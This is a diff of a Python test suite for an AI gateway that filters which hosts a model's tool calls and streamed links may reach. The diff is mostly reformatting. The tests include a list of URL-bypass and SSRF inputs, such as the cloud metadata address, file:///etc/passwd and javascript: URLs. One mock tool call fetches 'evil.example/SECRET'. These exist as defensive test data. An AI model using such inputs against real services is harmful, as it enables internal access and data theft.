@@ -65,11 +65,29 @@ route = ["echo"]
 
 def place(chance: random.Random) -> tuple[str, bool]:
     """Somewhere, and whether it is controlled."""
-    good = ["https://good.example/a?b=1", "http://good.example", "https://x.good.example:8443/", "HTTPS://GOOD.example:443/x#y", "good.example/x"]
+    good = [
+        "https://good.example/a?b=1",
+        "http://good.example",
+        "https://x.good.example:8443/",
+        "HTTPS://GOOD.example:443/x#y",
+        "good.example/x",
+    ]
     evil = [
-        "https://evil.example/", "http://127.0.0.1/", "//evil.example/x", "https://good.example@evil.example", "https://good.example.evil.example",
-        "http://169.254.169.254/latest", "evil.example", "file:///etc/passwd", "javascript:alert(1)", "https:evil.example", "\\\\evil.example\\x",
-        "http://2130706433/", "https://good.example:444/", "wss://evil.example/", "HTTPS:\\\\evil.example",
+        "https://evil.example/",
+        "http://127.0.0.1/",
+        "//evil.example/x",
+        "https://good.example@evil.example",
+        "https://good.example.evil.example",
+        "http://169.254.169.254/latest",
+        "evil.example",
+        "file:///etc/passwd",
+        "javascript:alert(1)",
+        "https:evil.example",
+        "\\\\evil.example\\x",
+        "http://2130706433/",
+        "https://good.example:444/",
+        "wss://evil.example/",
+        "HTTPS:\\\\evil.example",
     ]
     controlled = chance.random() < 0.5
     return chance.choice(good if controlled else evil), controlled
@@ -79,7 +97,10 @@ def call(chance: random.Random) -> tuple[str, dict[str, Any], bool]:
     """A tool, what it is called with, and whether that may go on."""
     tool = chance.choice(["fetch", "Fetch", "browser_open", "write_file", "prefetch"])
     where, controlled = place(chance)
-    arguments: dict[str, Any] = {"note": chance.choice(["report.pdf", "ünï – “quoted”\n\t", "e.g. a/b", ""]), "n": chance.randrange(9)}
+    arguments: dict[str, Any] = {
+        "note": chance.choice(["report.pdf", "ünï – “quoted”\n\t", "e.g. a/b", ""]),
+        "n": chance.randrange(9),
+    }
     match chance.randrange(4):
         case 0:
             arguments["url"] = where
@@ -94,10 +115,24 @@ def call(chance: random.Random) -> tuple[str, dict[str, Any], bool]:
 
 
 def answer(chance: random.Random, calls: list[tuple[str, str]]) -> dict[str, Any]:
-    made = [{"id": f"call_{at}", "type": "function", "function": {"name": tool, "arguments": text}} for at, (tool, text) in enumerate(calls)]
-    message = {"role": "assistant", "content": chance.choice([None, "let me see"]), "tool_calls": made}
+    made = [
+        {"id": f"call_{at}", "type": "function", "function": {"name": tool, "arguments": text}}
+        for at, (tool, text) in enumerate(calls)
+    ]
+    message = {
+        "role": "assistant",
+        "content": chance.choice([None, "let me see"]),
+        "tool_calls": made,
+    }
     choice = {"index": 0, "message": message, "finish_reason": "tool_calls"}
-    return {"id": "c", "object": "chat.completion", "created": 1, "model": MODEL, "choices": [choice], "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}}
+    return {
+        "id": "c",
+        "object": "chat.completion",
+        "created": 1,
+        "model": MODEL,
+        "choices": [choice],
+        "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
+    }
 
 
 def streamed(chance: random.Random, whole: dict[str, Any]) -> bytes:
@@ -105,18 +140,40 @@ def streamed(chance: random.Random, whole: dict[str, Any]) -> bytes:
     message, events = whole["choices"][0]["message"], []
 
     def event(delta: dict[str, Any], finish: str | None = None) -> None:
-        events.append({"id": "c", "object": "chat.completion.chunk", "created": 1, "model": MODEL, "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]})
+        events.append(
+            {
+                "id": "c",
+                "object": "chat.completion.chunk",
+                "created": 1,
+                "model": MODEL,
+                "choices": [{"index": 0, "delta": delta, "finish_reason": finish}],
+            }
+        )
 
     event({"role": "assistant", "content": message["content"]})
     for at, one in enumerate(message["tool_calls"]):
         text = one["function"]["arguments"]
-        event({"tool_calls": [{"index": at, "id": one["id"], "type": "function", "function": {"name": one["function"]["name"], "arguments": ""}}]})
+        event(
+            {
+                "tool_calls": [
+                    {
+                        "index": at,
+                        "id": one["id"],
+                        "type": "function",
+                        "function": {"name": one["function"]["name"], "arguments": ""},
+                    }
+                ]
+            }
+        )
         while text:
             size = chance.randrange(1, 12)
             event({"tool_calls": [{"index": at, "function": {"arguments": text[:size]}}]})
             text = text[size:]
     event({}, "tool_calls")
-    return b"".join(b"data: " + json.dumps(one).encode() + b"\n\n" for one in events) + b"data: [DONE]\n\n"
+    return (
+        b"".join(b"data: " + json.dumps(one).encode() + b"\n\n" for one in events)
+        + b"data: [DONE]\n\n"
+    )
 
 
 def put_together(client: openai.OpenAI, mark: str) -> list[tuple[str, str]]:
@@ -132,12 +189,27 @@ def test_calls_go_on_byte_for_byte_or_not_at_all(gateway: Served, model: Says) -
     def one(number: int) -> str | None:
         mine = random.Random(f"{SEED} {number}")
         drawn = [call(mine) for _ in range(mine.randrange(1, 4))]
-        calls = [(tool, json.dumps(arguments, ensure_ascii=mine.random() < 0.5, separators=(",", ":") if mine.random() < 0.5 else None)) for tool, arguments, _ in drawn]
+        calls = [
+            (
+                tool,
+                json.dumps(
+                    arguments,
+                    ensure_ascii=mine.random() < 0.5,
+                    separators=(",", ":") if mine.random() < 0.5 else None,
+                ),
+            )
+            for tool, arguments, _ in drawn
+        ]
         passes = all(may for *_, may in drawn)
         whole, mark = answer(mine, calls), f"answer {number}."
         model.say(mark, json.dumps(whole).encode(), streamed(mine, whole))
         try:
-            made = client.chat.completions.create(model=MODEL, messages=user(mark)).choices[0].message.tool_calls or []
+            made = (
+                client.chat.completions.create(model=MODEL, messages=user(mark))
+                .choices[0]
+                .message.tool_calls
+                or []
+            )
             if not passes or [(one.function.name, one.function.arguments) for one in made] != calls:
                 return f"{calls} went on as {made}"
         except openai.PermissionDeniedError as refused:
@@ -158,30 +230,55 @@ def test_calls_go_on_byte_for_byte_or_not_at_all(gateway: Served, model: Says) -
 
 def test_nothing_of_a_refused_call_comes_out(gateway: Served, model: Says) -> None:
     chance = random.Random(1)
-    whole = answer(chance, [("write_file", '{"path":"a.txt"}'), ("fetch", '{"url":"https://evil.example/SECRET"}')])
+    whole = answer(
+        chance,
+        [("write_file", '{"path":"a.txt"}'), ("fetch", '{"url":"https://evil.example/SECRET"}')],
+    )
     model.say("refused", json.dumps(whole).encode(), streamed(chance, whole))
     headers = {"authorization": f"Bearer {gateway.token}"}
     for stream in (False, True):
         body = {"model": MODEL, "messages": user("refused"), "stream": stream}
-        said = httpx2.post(gateway.url + CHAT, json=body, headers=headers, timeout=30, trust_env=False)
-        assert "SECRET" not in said.text and "answer-uncontrolled" in said.text and '"fetch"' not in said.text
+        said = httpx2.post(
+            gateway.url + CHAT, json=body, headers=headers, timeout=30, trust_env=False
+        )
+        assert (
+            "SECRET" not in said.text
+            and "answer-uncontrolled" in said.text
+            and '"fetch"' not in said.text
+        )
         assert stream == ("write_file" in said.text), "what came before the call came out"
         rows = query(gateway, "--request", said.headers["token-shield-request"])
         [outcome] = [inside(row) for row in rows if row["kind"] == "outcome"]
         assert outcome["code"] == "answer-uncontrolled"
-        assert outcome["led"] == [{"kind": "called", "reason": "not-listed", "target": "https://evil.example/ (fetch)", "verdict": "block"}]
+        assert outcome["led"] == [
+            {
+                "kind": "called",
+                "reason": "not-listed",
+                "target": "https://evil.example/ (fetch)",
+                "verdict": "block",
+            }
+        ]
 
 
 def test_what_comes_behind_a_refused_link_is_not_sent(gateway: Served, model: Says) -> None:
     """All of it comes at once; what stands before the link comes out, then the error, and no end as if all were well."""
     token = gateway.issue("tools/blocked", "--class", "blocked", models=(MODEL,))
     piece = {"id": "c", "object": "chat.completion.chunk", "created": 1, "model": MODEL}
-    events = [{**piece, "choices": [{"index": 0, "delta": {"content": text}, "finish_reason": None}]} for text in ("before ", "https://evil.example/ ", "behind")]
+    events = [
+        {**piece, "choices": [{"index": 0, "delta": {"content": text}, "finish_reason": None}]}
+        for text in ("before ", "https://evil.example/ ", "behind")
+    ]
     events.append({**piece, "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
-    model.say("a link", b"{}", b"".join(f"data: {json.dumps(one)}\n\n".encode() for one in events) + b"data: [DONE]\n\n")
+    model.say(
+        "a link",
+        b"{}",
+        b"".join(f"data: {json.dumps(one)}\n\n".encode() for one in events) + b"data: [DONE]\n\n",
+    )
     said = ""
     with pytest.raises(openai.APIError, match="not controlled"):
-        for chunk in open_ai(gateway, token).chat.completions.create(model=MODEL, messages=user("a link"), stream=True):
+        for chunk in open_ai(gateway, token).chat.completions.create(
+            model=MODEL, messages=user("a link"), stream=True
+        ):
             said += chunk.choices[0].delta.content or ""
     assert said.startswith("before ") and "behind" not in said and "evil" not in said
 
@@ -193,7 +290,12 @@ def test_a_class_may_only_be_told(gateway: Served, model: Says) -> None:
     whole = answer(chance, calls)
     model.say("reported", json.dumps(whole).encode(), streamed(chance, whole))
     assert put_together(open_ai(gateway, token), "reported") == calls
-    assert gateway.metric("token_shield_egress_total", door="answer", verdict="report", reason="not-listed") >= 1
+    assert (
+        gateway.metric(
+            "token_shield_egress_total", door="answer", verdict="report", reason="not-listed"
+        )
+        >= 1
+    )
 
 
 def test_a_token_leaves_less(gateway: Served, model: Says) -> None:
@@ -209,25 +311,56 @@ def test_a_token_leaves_less(gateway: Served, model: Says) -> None:
 
 def block(name: str, url: str, late: bool) -> tuple[bytes, bytes]:
     """An answer of Anthropic's that calls a tool, whole and streamed; all blocks end at the end where it is `late`, as llama.cpp has it."""
-    about = {"id": "m", "type": "message", "role": "assistant", "model": MODEL, "usage": {"input_tokens": 1, "output_tokens": 1}}
-    content = [{"type": "text", "text": "so"}, {"type": "tool_use", "id": "t", "name": name, "input": {"url": url}}]
-    whole = json.dumps({**about, "content": content, "stop_reason": "tool_use", "stop_sequence": None}).encode()
+    about = {
+        "id": "m",
+        "type": "message",
+        "role": "assistant",
+        "model": MODEL,
+        "usage": {"input_tokens": 1, "output_tokens": 1},
+    }
+    content = [
+        {"type": "text", "text": "so"},
+        {"type": "tool_use", "id": "t", "name": name, "input": {"url": url}},
+    ]
+    whole = json.dumps(
+        {**about, "content": content, "stop_reason": "tool_use", "stop_sequence": None}
+    ).encode()
     arguments = json.dumps({"url": url})
     events: list[dict[str, Any]] = [
-        {"type": "message_start", "message": {**about, "content": [], "stop_reason": None, "stop_sequence": None}},
+        {
+            "type": "message_start",
+            "message": {**about, "content": [], "stop_reason": None, "stop_sequence": None},
+        },
         {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}},
         {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": "so"}},
         {"type": "content_block_stop", "index": 0},
-        {"type": "content_block_start", "index": 1, "content_block": {"type": "tool_use", "id": "t", "name": name, "input": {}}},
-        *({"type": "content_block_delta", "index": 1, "delta": {"type": "input_json_delta", "partial_json": arguments[at : at + 5]}} for at in range(0, len(arguments), 5)),
+        {
+            "type": "content_block_start",
+            "index": 1,
+            "content_block": {"type": "tool_use", "id": "t", "name": name, "input": {}},
+        },
+        *(
+            {
+                "type": "content_block_delta",
+                "index": 1,
+                "delta": {"type": "input_json_delta", "partial_json": arguments[at : at + 5]},
+            }
+            for at in range(0, len(arguments), 5)
+        ),
         {"type": "content_block_stop", "index": 1},
-        {"type": "message_delta", "delta": {"stop_reason": "tool_use", "stop_sequence": None}, "usage": {"output_tokens": 1}},
+        {
+            "type": "message_delta",
+            "delta": {"stop_reason": "tool_use", "stop_sequence": None},
+            "usage": {"output_tokens": 1},
+        },
         {"type": "message_stop"},
     ]
     if late:
         stops = [one for one in events if one["type"] == "content_block_stop"]
         events = [one for one in events[:-2] if one not in stops] + stops + events[-2:]
-    return whole, b"".join(f"event: {one['type']}\ndata: {json.dumps(one)}\n\n".encode() for one in events)
+    return whole, b"".join(
+        f"event: {one['type']}\ndata: {json.dumps(one)}\n\n".encode() for one in events
+    )
 
 
 @pytest.mark.parametrize("late", [False, True])
@@ -241,13 +374,18 @@ def test_anthropic_tools_too(gateway: Served, model: Says, late: bool) -> None:
         mark = f"{mark} {late}"
         model.say(mark, *block(name, url, late))
         if passes:
-            assert client.messages.create(model=MODEL, max_tokens=9, messages=user(mark)).content[1].input == {"url": url}
+            assert client.messages.create(model=MODEL, max_tokens=9, messages=user(mark)).content[
+                1
+            ].input == {"url": url}
             with client.messages.stream(model=MODEL, max_tokens=9, messages=user(mark)) as stream:
                 assert stream.get_final_message().content[1].input == {"url": url}
             continue
         with pytest.raises(anthropic.PermissionDeniedError):
             client.messages.create(model=MODEL, max_tokens=9, messages=user(mark))
-        with pytest.raises(anthropic.APIError), client.messages.stream(model=MODEL, max_tokens=9, messages=user(mark)) as stream:
+        with (
+            pytest.raises(anthropic.APIError),
+            client.messages.stream(model=MODEL, max_tokens=9, messages=user(mark)) as stream,
+        ):
             stream.get_final_message()
 
 
@@ -259,10 +397,19 @@ def test_egress_check_says_why(gateway: Served) -> None:
     code, out, _ = check("https://good.example/a", "--use", "tunnel")
     assert code == 0 and "controlled" in out and "[egress] tunnel has good.example:443" in out
     code, out, err = check("https://evil.example/a", "--use", "tunnel", "--agent", "tools/told")
-    assert code == 1 and "class reported" in out and "passes, and is recorded" in out and "not on the list" in err
+    assert (
+        code == 1
+        and "class reported" in out
+        and "passes, and is recorded" in out
+        and "not on the list" in err
+    )
     code, out, _ = check("http://127.1/", "--json")
     rows = [json.loads(line) for line in out.splitlines()]
-    assert code == 1 and [row["use"] for row in rows] == ["media", "links", "tunnel"] and all(row["reason"] == "unreadable" for row in rows)
+    assert (
+        code == 1
+        and [row["use"] for row in rows] == ["media", "links", "tunnel"]
+        and all(row["reason"] == "unreadable" for row in rows)
+    )
     narrow = gateway.issue("tools/less", "--egress-host", "x.good.example")
     code, out, _ = check("https://good.example/", "--use", "tunnel", "--token", narrow)
     assert code == 1 and "it leaves x.good.example" in out and narrow not in out
@@ -273,8 +420,16 @@ def test_egress_check_says_why(gateway: Served) -> None:
 def test_an_agent_is_told_what_it_may_reach(gateway: Served) -> None:
     def me(token: str) -> dict[str, Any]:
         headers = {"authorization": f"Bearer {token}"}
-        return httpx2.get(gateway.url + "/v1/token-shield/me", headers=headers, timeout=30, trust_env=False).json()["egress"]
+        return httpx2.get(
+            gateway.url + "/v1/token-shield/me", headers=headers, timeout=30, trust_env=False
+        ).json()["egress"]
 
-    assert me(gateway.token) == {"media": [], "links": [], "tunnel": ["good.example:443", "good.example:80", "*.good.example:8443"]}
-    assert me(gateway.issue("tools/less", "--egress-host", "x.good.example"))["tunnel"] == ["x.good.example:8443"]
+    assert me(gateway.token) == {
+        "media": [],
+        "links": [],
+        "tunnel": ["good.example:443", "good.example:80", "*.good.example:8443"],
+    }
+    assert me(gateway.issue("tools/less", "--egress-host", "x.good.example"))["tunnel"] == [
+        "x.good.example:8443"
+    ]
     assert me(gateway.issue("tools/none", "--egress", "none"))["tunnel"] == []
